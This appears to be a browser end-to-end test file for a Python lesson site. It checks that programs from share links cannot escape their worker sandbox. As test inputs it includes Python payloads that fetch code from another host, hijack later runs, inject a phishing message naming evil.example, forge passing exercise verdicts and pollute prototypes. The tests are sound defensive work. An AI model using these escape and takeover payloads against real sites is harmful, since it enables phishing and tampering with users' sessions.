/**
 * Programs from strangers (a share link, one press of Run), served isolated and not:
 * nothing they do reaches another host or the site's storage, and nothing they leave
 * behind changes a later run or forges an exercise's verdict. (What each refusal looks
 * like inside Python: the unit tests of worker-core and fresh.py.)
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Locator, Page } from 'playwright-core';
import { example, finished, open, replaceCode, resetAndRun, responseTime, runAgain, status } from './page-helpers';

const PAGE = '/lessons/executing-tasks/';
const SQUARING = 'squaring-a-number-slowly';
const SQUARING_OUTPUT = 'Square 1\nEnd square 1\n1';

/** The page, opening `code` from a share link in the example "Squaring a number, slowly". */
const linked = (code: string) => `${PAGE}#share-${SQUARING}=${deflateRawSync(Buffer.from(code)).toString('base64url')}`;

/** Every way out that reviews tried, each printed as reached or refused. */
const ESCAPES = (elsewhere: string) => `
import js
def attempt(name, reach):
    try:
        reach()
        print(name, "reached")
    except Exception as refused:
        print(name, "refused")
url = "${elsewhere}/x"
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("import()", lambda: js.eval(f"import('{url}.js')"))
attempt("fetch", lambda: js.fetch(url))
attempt("fetch from the prototype", lambda: js.WorkerGlobalScope.prototype.fetch.call(js, url))
attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new())
attempt("WebSocket", lambda: js.WebSocket.new("ws://127.0.0.1:9"))
attempt("font", lambda: js.FontFace.new("f", f"url({url}.woff)").load())
attempt("caches", lambda: js.caches.open("workbox-precache"))
attempt("caches from the prototype", lambda: js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "caches").get.call(js))
attempt("indexedDB", lambda: js.indexedDB.open("db"))
attempt("origin file system", lambda: js.navigator.storage.getDirectory())
attempt("worker", lambda: js.Worker.new(url))
attempt("postMessage", lambda: js.postMessage("forged"))
`;

/**
 * Type `code` into the example, run it, and return what the page shows: output, status
 * and error line. Typed as one line, `exec("...")`: the editor indents the lines it is
 * typed itself, and would double the program's own indentation.
 */
async function typedRun(page: Page, ex: Locator, code: string) {
  await replaceCode(page, ex, code.includes('\n') ? `exec(${JSON.stringify(code)})` : code);
  await ex.getByRole('button', { name: 'Run', exact: true }).click();
  const output = await finished(ex);
  const error = ex.locator('.output__error p');
  return { output, status: await status(ex).innerText(), error: (await error.count()) ? await error.innerText() : '' };
}

/** What a hostile program plants for the runs after it. */
const PLANTED = `
import asyncio, builtins, sys, statistics
import js
from pyodide.ffi import create_proxy
import asyncio_live.check, asyncio_live.clock

def hijack(*args):
    builtins.print = lambda *a, **k: sys.__stdout__.write("hijacked\\n")
js.setInterval(create_proxy(hijack), 0)
js.addEventListener("message", create_proxy(lambda event: setattr(js, "spied", "the next example's code")))
sys.modules["asyncio"] = type("Fake", (), {"run": staticmethod(lambda main: print("a fake asyncio"))})
asyncio.Runner.run = lambda self, coro, **kwargs: print("a patched Runner")
asyncio_live.clock.clock.advance = lambda *args: None
asyncio_live.check.verdict = lambda *args: {"passed": True, "message": ""}
statistics.mean = lambda data: 42
print("planted")
`;

/**
 * What a share link did to its worker's JavaScript in the attack this guards against:
 * every later message the worker heard rewritten (the lesson's code replaced by a
 * phishing line), the port taken to forge a passing verdict, Object.prototype polluted.
 */
const TAKEOVER = `
import js
from pyodide.ffi import create_proxy, to_js
obj = lambda d: to_js(d, dict_converter=js.Object.fromEntries)
getter = js.Object.getOwnPropertyDescriptor(js.MessageEvent.prototype, "data").get
def data(this):
    message = getter.call(this)
    if getattr(message, "type", None) == "run/start":
        message.code = 'print("Your session expired: sign in again at https://evil.example/login")'
    return message
js.Object.defineProperty(js.MessageEvent.prototype, "data", obj({"get": create_proxy(data, capture_this=True), "configurable": True}))
post = js.MessagePort.prototype.postMessage
def forged(this, message, *rest):
    post.call(this, obj({"type": "run/done", "id": message.id, "result": obj({"ok": True, "time": 0, "check": obj({"passed": True, "message": ""})}), "memory": 0, "fatal": False}))
js.MessagePort.prototype.postMessage = create_proxy(forged, capture_this=True)
js.Object.prototype.toJSON = create_proxy(lambda *a: "injected")
print("planted")
`;

/** The names a program finds on its worker's global scope and navigator that are not pinned to undefined. */
const GLOBALS = `
import js
def names(obj):
    level, found = obj, set()
    while level is not None and level != js.Object.prototype:
        for name in js.Object.getOwnPropertyNames(level):
            if js.Reflect.get(obj, name) is not None:  # undefined is None; null is not
                found.add(name)
        level = js.Object.getPrototypeOf(level)
    return sorted(found)
# One name a line: a line of output is drawn cut past 2,000 characters.
print(*names(js), sep="\\n")
print("-- navigator")
print(*names(js.navigator), sep="\\n")
`;

describe.each([
  ['cross-origin isolated', () => inject('isolatedURL')],
  ['on a host that sends no headers', () => inject('plainURL')],
])('a program from a link, %s', (_, base) => {
  let elsewhere: Server;
  let elsewhereURL = '';
  const hits: string[] = [];
  beforeAll(async () => {
    // Another host that would answer anything, to anyone.
    elsewhere = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.writeHead(200, {
        'Access-Control-Allow-Origin': '*',
        'Cross-Origin-Resource-Policy': 'cross-origin',
        'Content-Type': 'text/javascript',
      });
      response.end('self.reachedElsewhere = true;');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    elsewhereURL = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    // One page for the tests below, as one reader's visit: a program from a link first.
    opened = await open(base(), linked(ESCAPES(elsewhereURL)));
  });
  afterAll(async () => {
    await opened?.close();
    await new Promise<void>((resolve) => elsewhere.close(() => resolve()));
  });
  let opened: Awaited<ReturnType<typeof open>>;

  it('reaches no other host, no storage of the site and no channel out of its worker', async () => {
    const { page, requests } = opened;
    const ex = example(page, 'Squaring a number, slowly');
    await ex.locator('.live-example__notice', { hasText: 'This code came from a link' }).waitFor({ timeout: 30_000 });
    const output = await runAgain(ex);
    const lines = output.split('\n');
    expect(lines).toHaveLength(14);
    expect(lines.filter((line) => !line.endsWith(' refused'))).toEqual([]);
    // The page still works, and nothing went anywhere but the site.
    expect(await resetAndRun(ex)).toBe(SQUARING_OUTPUT);
    expect(hits).toEqual([]);
    expect(requests.filter((url) => !url.startsWith(base()) && !url.startsWith('blob:'))).toEqual([]);
  });

  it('leaves nothing behind: later runs, other examples and exercise checks run as on a fresh interpreter', async () => {
    const { page } = opened;
    const ex = example(page, 'Squaring a number, slowly');
    expect((await typedRun(page, ex, PLANTED)).output).toBe('planted');
    // Another example of the page, on the same interpreter.
    const three = example(page, 'Three squares in one second');
    expect(await runAgain(three)).toContain('[1, 4, 9]');
    // An exercise: a wrong prediction is still wrong.
    const exercise = page.locator('live-example[data-example-id="taking-turns"]');
    await exercise.getByRole('textbox', { name: /Your prediction/ }).fill('nothing at all');
    await exercise.getByRole('button', { name: 'Check' }).click();
    await exercise
      .locator('.exercise__verdict-title')
      .filter({ hasText: /^(✓ Solved|Not yet)/ })
      .waitFor({ timeout: 30_000 });
    expect(await exercise.locator('.exercise__verdict-title').innerText()).toBe('Not yet');
    // The example's own code, and a program that looks for what was planted.
    expect(await resetAndRun(ex)).toBe(SQUARING_OUTPUT);
    await replaceCode(page, ex, 'import js, statistics\nprint(statistics.mean([1, 3]), getattr(js, "spied", "heard nothing"))');
    await ex.getByRole('button', { name: 'Run', exact: true }).click();
    expect(await finished(ex)).toBe('2 heard nothing');
  });

  it('finds nothing new in its worker: every global name was reviewed (worker-globals.json)', async () => {
    const { page } = opened;
    const ex = example(page, 'Squaring a number, slowly');
    const [global, navigator] = (await typedRun(page, ex, GLOBALS)).output.split('\n-- navigator\n').map((names) => names.split('\n'));
    expect(global.length).toBeGreaterThan(100);
    const reviewed = JSON.parse(readFileSync(join(import.meta.dirname, 'worker-globals.json'), 'utf8')) as {
      global: string[];
      navigator: string[];
    };
    expect(
      global.filter((name) => !reviewed.global.includes(name)),
      'new names on the worker’s global scope',
    ).toEqual([]);
    expect(
      navigator.filter((name) => !reviewed.navigator.includes(name)),
      'new names on navigator',
    ).toEqual([]);
    // What the lock-down strips is gone.
    for (const name of [
      'fetch',
      'caches',
      'indexedDB',
      'scheduler',
      'requestAnimationFrame',
      'webkitRequestFileSystemSync',
      'BroadcastChannel',
    ])
      expect(global).not.toContain(name);
    for (const name of ['storage', 'storageBuckets', 'locks', 'serviceWorker']) expect(navigator).not.toContain(name);
  });

  it('takes over its worker’s JavaScript and reaches no later run, on this page or the next, and marks nothing solved', async () => {
    const { page } = opened;
    const ex = example(page, 'Squaring a number, slowly');
    expect((await typedRun(page, ex, TAKEOVER)).output).toBe('planted');
    // The lesson's own code, an edit, and another example: each prints what it prints in a fresh browser.
    expect(await resetAndRun(ex)).toBe(SQUARING_OUTPUT);
    expect((await typedRun(page, ex, 'print("my own edit")')).output).toBe('my own edit');
    expect(await runAgain(example(page, 'Three squares in one second'))).toContain('[1, 4, 9]');
    // A share link for an exercise, whose code prints what the reader then predicts: it
    // passes, and is not counted.
    const exercise = page.locator('live-example[data-example-id="taking-turns"]');
    await page.goto(`${base()}${PAGE}#share-taking-turns=${deflateRawSync(Buffer.from('print("forged")')).toString('base64url')}`);
    await exercise.locator('.live-example__notice', { hasText: 'This code came from a link' }).waitFor({ timeout: 30_000 });
    await exercise.getByRole('textbox', { name: /Your prediction/ }).fill('forged');
    await exercise.getByRole('button', { name: 'Check' }).click();
    await exercise
      .locator('.exercise__verdict-title')
      .filter({ hasText: /^(✓ Solved|Not yet|Passes, not counted)/ })
      .waitFor({ timeout: 30_000 });
    expect(await exercise.locator('.exercise__verdict-title').innerText()).toBe('Passes, not counted');
    expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith('asyncio-live:solved:')))).toEqual([]);
    // The page reached by a link keeps the worker that served the lesson's examples: it
    // never ran the link's code. (Run stays hidden: the link's program is not the
    // exercise's, so its passing reveals no answer; Check runs it once more.)
    expect(await exercise.getByRole('button', { name: 'Run', exact: true }).isVisible()).toBe(false);
    await exercise.locator('.exercise__verdict-title').evaluate((title) => (title.textContent = ''));
    await exercise.getByRole('button', { name: 'Check' }).click();
    await exercise.locator('.exercise__verdict-title').filter({ hasText: 'Passes, not counted' }).waitFor({ timeout: 30_000 });
    await page.waitForFunction(() => document.documentElement.dataset.python === 'ready');
    await page.locator('a[rel="next"]').first().click();
    await page.waitForURL((url) => url.pathname !== PAGE);
    const next = page.locator('live-example[data-runnable="true"]').first();
    const expected = (await next.locator('.live-example__expected pre').innerText()).replace(/\n$/, '');
    expect(await runAgain(next)).toBe(expected);
    await page.goBack();
    await page.waitForURL((url) => url.pathname === PAGE);
  });

  it('ends floods and odd exits with a clear message, bounded output and a bounded timeline, and the page keeps answering', async () => {
    const { page } = opened;
    const ex = example(page, 'Squaring a number, slowly');
    // Two tasks spinning on sleep(0): the loop turns, its clock never moves. (The limit
    // is lowered to keep the test short; it is a million turns, and back after the run.)
    const spin = await typedRun(
      page,
      ex,
      'import asyncio, asyncio_live.loop as loop\nloop.MAX_TURNS_WITHOUT_PROGRESS = 20_000\nasync def spin():\n    while True:\n        await asyncio.sleep(0)\nasync def main():\n    await asyncio.gather(spin(), spin())\nasyncio.run(main())',
    );
    expect(spin.error, JSON.stringify(spin)).toMatch(
      /^NoProgress: the event loop went round 20,000 times in a row and no task waited for time to pass/,
    );
    await ex.locator('.output__timeline-toggle').check();
    const summary = ex.locator('.timeline__summary');
    await summary.filter({ hasText: /shows the first 10,000 of [\d,]+ events/ }).waitFor({ timeout: 30_000 });
    await ex.locator('.timeline__svg').waitFor();
    expect(await ex.locator('.timeline__svg *').count()).toBeLessThan(3000);
    expect(await responseTime(page)).toBeLessThan(5000);

    // A blocking sleep of 31 years ends at once (a wait costs nothing), and the axis
    // has a dozen ticks. (10^12 s is more than CPython's clock can hold: OverflowError, as there.)
    expect((await typedRun(page, ex, 'import time\ntime.sleep(1e12)')).error).toBe(
      'OverflowError: timestamp out of range for platform time_t',
    );
    const sleep = await typedRun(page, ex, 'import time\ntime.sleep(1e9)\nprint("woke")');
    expect(sleep).toMatchObject({ output: 'woke', error: '' });
    await ex.locator('.timeline__svg').waitFor();
    expect(await ex.locator('.timeline__tick').count()).toBeLessThanOrEqual(30);

    // 50 million characters in one print: what fits, then the truncation line.
    const flood = await typedRun(page, ex, 'print("x" * 50_000_000)');
    expect(flood.error).toMatch(/^OutputLimitExceeded: /);
    expect(flood.output.length).toBeLessThan(1_100_000);
    expect(flood.output).toMatch(/\[output truncated: the program printed more than/);

    // One line that costs seconds to lay out (50,000 accents on one letter) is drawn cut,
    // and quoted short where it differs from the lesson's output.
    const accents = await typedRun(page, ex, "print('a' + '\\u0301' * 50000)");
    expect(accents.output).toBe(`a${'\u0301'.repeat(30)}… … (48,001 more characters on this line: Copy output has them)`);
    expect((await ex.locator('.output__match').innerText()).length).toBeLessThan(300);
    const wide = await typedRun(page, ex, "print('z' * 100_000)");
    expect(wide.output).toBe(`${'z'.repeat(2000)} … (98,000 more characters on this line: Copy output has them)`);

    // A long output is drawn in blocks, a few hundred lines a frame: it still reads as printed, blank lines included.
    const numbered = await typedRun(page, ex, 'for i in range(700):\n    print(i)\n    if i % 199 == 0:\n        print()');
    expect(numbered.output).toBe(Array.from({ length: 700 }, (_, i) => (i % 199 === 0 ? `${i}\n` : `${i}`)).join('\n'));
    expect(await ex.locator('.output__block').count()).toBeGreaterThan(1);

    const odd = await typedRun(page, ex, 'class Odd(Exception):\n    def __str__(self):\n        raise ValueError()\nraise Odd()');
    expect(odd.error).toBe('Odd: <exception str() failed>');
    const exited = await typedRun(page, ex, 'import os\nprint("bye")\nos._exit(3)');
    expect(exited).toMatchObject({ output: 'bye', error: 'SystemExit: the program exited with status 3 (os._exit)' });
    expect((await typedRun(page, ex, 'import os\nos._exit(0)')).status).toMatch(/^Done/);
    expect((await typedRun(page, ex, 'import time\ntime.sleep(float("nan"))')).error).toBe('ValueError: Invalid value NaN (not a number)');
    const garbage = await typedRun(page, ex, 'async def f(): pass\nclass Holder: pass\nh = Holder()\nh.me, h.coro = h, f()\ndel h');
    expect(garbage.output).toMatch(/^<sys>:0: RuntimeWarning: coroutine 'f' was never awaited$/m);
    expect(garbage.output).not.toContain('asyncio_live');

    // 5,000 ticking tasks, stopped: the stop ends, the page answers, the next run works.
    await replaceCode(
      page,
      ex,
      'exec("import asyncio\\nasync def tick():\\n    while True:\\n        await asyncio.sleep(0.1)\\nasync def main():\\n    await asyncio.gather(*(tick() for _ in range(5000)))\\nasyncio.run(main())")',
    );
    await ex.getByRole('button', { name: 'Run', exact: true }).click();
    await status(ex).filter({ hasText: 'Running' }).waitFor({ timeout: 30_000 });
    await ex.getByRole('button', { name: 'Stop' }).click();
    await status(ex)
      .filter({ hasText: /^Stopped/ })
      .waitFor({ timeout: 15_000 });
    expect(await responseTime(page)).toBeLessThan(5000);
    expect((await typedRun(page, ex, 'print("after the stop")')).output).toBe('after the stop');
  });

  it('says so when a share link is for an example the page does not have', async () => {
    const { page, close } = await open(base(), `${PAGE}#share-999=${deflateRawSync(Buffer.from('print(1)')).toString('base64url')}`, {
      withoutPython: true,
    });
    const notice = page.locator('.share-notice');
    await notice.waitFor({ timeout: 30_000 });
    expect(await notice.innerText()).toContain('not on this page');
    await notice.getByRole('button', { name: 'Dismiss' }).click();
    expect(await page.locator('.share-notice').count()).toBe(0);
    await close();
  });
});
